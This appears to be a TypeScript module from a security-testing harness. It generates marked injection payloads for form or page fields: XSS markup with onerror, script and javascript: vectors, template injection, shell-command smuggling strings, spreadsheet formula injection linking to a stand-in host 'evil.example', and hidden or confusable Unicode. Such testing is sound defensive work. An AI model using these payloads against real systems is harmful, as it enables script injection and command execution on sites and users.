/** What an attacker writes into a text. */
import type { TextPlace, WriteText } from './fill-answer.ts'

/** Finds the mark of a place in a page. */
const MARK = /q\d+q/g

/** Gives each place a mark of its own, by which the place is found again on a page. */
export class Marks {
  readonly #numbers = new Map<string, number>()

  /** Returns the mark of a place, which survives whatever a page does with texts. */
  of(place: string): string {
    const number = this.#numbers.get(place) ?? this.#numbers.size + 100
    this.#numbers.set(place, number)
    return `q${number}q`
  }

  /** Lists the places whose marks are in a text. */
  placesIn(text: string): readonly string[] {
    const found = new Set(text.match(MARK) ?? [])
    return [...this.#numbers].filter(([, number]) => found.has(`q${number}q`)).map(([place]) => place)
  }
}

/** Markup that calls a function of the attacker, in each place of HTML in which a text could end up. */
const MARKUP =
  `"'><img src=x onerror=stolen()><script>stolen()</script><svg onload=stolen()><a href=javascript:stolen()>x</a>` +
  `</title></style></textarea>-->{{constructor.constructor('stolen()')()}}\${stolen()}`

/** Letters that hide, reverse or imitate: an override of the direction, no width, controls, fillers, half a letter, many signs on one letter. */
const HIDDEN = `\u202e\u2066\u200b\u0000\u0007\u001b[2J\u3164\ufe0f\u{e0041}\u2028\ud800o${'\u0300'.repeat(40)}`

/** Letters of a script that runs the other way, and one that looks like a Latin one. */
const FOREIGN = '\u05d0\u05d1 J\u043erge'

/** The attacks, by what they try. Each writes the text of a place whose mark is given. */
export const PAYLOADS = {
  markup: (mark) => `${mark}${MARKUP}${FOREIGN}${HIDDEN}`,
  shell: (mark) => `${mark}/$(touch a1)\`touch a2\`';touch a3;'"|touch a4&\\`,
  formula: (mark, { place }) =>
    `${FORMULAS[place.length % FORMULAS.length] ?? '='}HYPERLINK("http://evil.example","${mark}")`,
} as const satisfies Readonly<Record<string, (mark: string, place: TextPlace) => string>>

/** How a formula can begin, also behind what a spreadsheet drops or takes for the end of a cell. */
const FORMULAS = ['=', '+', '-', '@', '\t=', '\r=', ' =', '\uff1d', '\u00a0+', '"=', 'x;=', '\ufeff=', '\u200b=', '|']

/** The name of an attack. */
export type AttackName = keyof typeof PAYLOADS

/** Returns how an attack writes texts. */
export function attackWith(name: AttackName, marks: Marks): WriteText {
  return (place) => PAYLOADS[name](marks.of(place.place), place)
}
